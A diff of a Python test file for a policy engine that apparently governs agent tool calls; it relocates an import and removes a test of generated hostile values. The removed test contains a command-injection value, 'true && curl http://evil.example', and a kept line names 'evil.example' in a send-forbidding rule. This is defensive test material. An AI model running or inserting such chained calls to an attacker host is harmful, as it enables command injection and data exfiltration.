@@ -14,10 +14,9 @@ from hypothesis import strategies as st
 from tests.examples import examples
 from workbench.app.session_language import language_of
 from workbench.clarify.written import Asked, Book, Effect
-from workbench.clarify.written.attempts import HolesByRule
+from workbench.clarify.written.holes import HolesByRule
 from workbench.clarify.written.offered import offered
 from workbench.clarify.written.typed_values import typed_values
-from workbench.clarify.written.witnesses import hostile_values
 from workbench.dialect.lowered_policy import LoweredPolicy, lowered_policy
 from workbench.engines.compiled.compile import compile_policy
 from workbench.language.trees import text_of
@@ -167,12 +166,6 @@ def test_a_sentence_is_asked_about_once_whatever_it_tests_and_never_about_signs(
     assert asked.about == ("forbid_send",)
     typed = f'{TESTED['call.file.endswith(".py")'].strip("()")} or "evil.example" in call.page.domains'
     assert meaning_the_thing(several) == f"{signs} or {typed}"
-
-
-def test_a_list_of_signs_of_a_command_is_asked_about_by_the_sign_that_it_lacks() -> None:
-    passing = [one.value for one in hostile_values("command", "contains", ";")]
-    assert "true && curl http://evil.example" in passing
-    assert not any("&&" in str(one.value) for one in hostile_values("command", "contains", "x"))
 
 
 def test_a_part_of_a_path_with_several_names_is_a_whole_folder_wherever_it_is() -> None:
